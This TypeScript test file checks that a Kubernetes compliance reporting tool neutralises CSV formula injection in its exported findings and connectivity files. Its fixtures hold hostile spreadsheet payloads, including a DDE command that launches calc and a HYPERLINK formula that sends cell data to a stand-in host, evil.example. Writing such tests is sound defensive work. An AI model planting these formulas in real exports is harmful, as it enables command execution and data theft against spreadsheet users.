// CSV formula injection: names from manifests and exception approvers are untrusted; a cell starting with
// = + - @ tab or CR must reach a spreadsheet as text (OWASP: a leading '). The files are read back with
// Python's csv module, an independent RFC 4180 reader.
import { execFileSync } from 'node:child_process';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { silentLogger } from '../../../src/model/log.js';
import { formatConnlistCsv } from '../../../src/render/connlist/csv.js';
import { defaultEngines } from '../../../src/run/engines.js';
import { runReport } from '../../../src/run/report-run.js';

const HOSTILE_NS = `=cmd|' /C calc'!A0`;
const HOSTILE_APP = '@SUM(1+1)*cmd|calc';
const HOSTILE_APPROVER = '=HYPERLINK("http://evil.example/?x="&A1,"CISO")';
const TAB_NAME = '\t+1+1';

const manifests = `apiVersion: v1
kind: Namespace
metadata: { name: "${HOSTILE_NS}" }
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: "${HOSTILE_APP}", namespace: "${HOSTILE_NS}", labels: { app: x } }
spec:
  selector: { matchLabels: { app: x } }
  template: { metadata: { labels: { app: x } }, spec: { containers: [{ name: c, image: i }] } }
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: "-2+3", namespace: "${HOSTILE_NS}" }
spec:
  podSelector: { matchLabels: { app: nobody } }
  policyTypes: [Ingress]
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: "${TAB_NAME.replace('\t', '\\t')}", namespace: "${HOSTILE_NS}" }
spec:
  podSelector: { matchLabels: { app: nobody-either } }
  policyTypes: [Ingress]
`;

const exceptions = `exceptions:
  - rule: policy-selects-nothing
    resource: { namespace: "${HOSTILE_NS}", name: "-2+3" }
    justification: test
    approver: '${HOSTILE_APPROVER}'
    expires: '2099-12-31'
`;

/** Every cell of a CSV file as Python's csv module reads it. */
function cells(file: string): string[][] {
  const out = execFileSync(
    'python3',
    ['-c', 'import csv,json,sys; print(json.dumps(list(csv.reader(open(sys.argv[1], newline="")))))', file],
    { encoding: 'utf8' },
  );
  return JSON.parse(out) as string[][];
}

const FORMULA = /^[=+\-@\t\r]/;

describe('CSV files with hostile names from manifests and exceptions', () => {
  it('start no cell with a formula character, and keep the text after a leading quote', async () => {
    const root = await mkdtemp(path.join(os.tmpdir(), 'npe-csv-'));
    await writeFile(path.join(root, 'cluster.yaml'), manifests);
    await writeFile(path.join(root, 'exceptions.yaml'), exceptions);
    const result = await runReport(
      {
        source: { manifests: [path.join(root, 'cluster.yaml')], sourceName: 'csv' },
        outDir: path.join(root, 'out'),
        formats: new Set(['json', 'csv']),
        frameworks: ['soc2'],
        period: { since: new Date('2025-10-01T00:00:00Z'), until: new Date('2026-01-01T00:00:00Z') },
        signing: { mode: 'unsigned' },
        exceptions: path.join(root, 'exceptions.yaml'),
        controls: [],
        maxDocumentAgeDays: 365,
      },
      { now: () => new Date('2026-01-15T10:00:00Z'), log: silentLogger, env: process.env },
      defaultEngines,
    );
    const findings = cells(path.join(result.bundleDir, 'findings.csv'));
    const connectivity = cells(path.join(result.bundleDir, 'connectivity.csv'));
    const all = [...findings, ...connectivity].flat();
    expect(all.filter((c) => FORMULA.test(c))).toEqual([]);
    expect(all).toContain(`'${HOSTILE_NS}`);
    expect(all).toContain(`'${HOSTILE_APPROVER}`);
    expect(all).toContain("'-2+3");
    expect(all).toContain(`'${TAB_NAME}`);
    expect(connectivity.some((row) => row.some((c) => c.startsWith(`'${HOSTILE_NS}/`)))).toBe(true);
    // The raw bytes too: the approver's formula appears only quoted and neutralised.
    const raw = await readFile(path.join(result.bundleDir, 'findings.csv'), 'utf8');
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""CISO"")"`);
  });

  it('neutralises connlist -o csv the same way', () => {
    const text = formatConnlistCsv({
      connections: [{ src: '=1+1', dst: '@x', text: 'All Connections' }],
    } as unknown as Parameters<typeof formatConnlistCsv>[0]);
    expect(text).toBe(`src,dst,conn\r\n"'=1+1","'@x",All Connections\r\n`);
  });
});
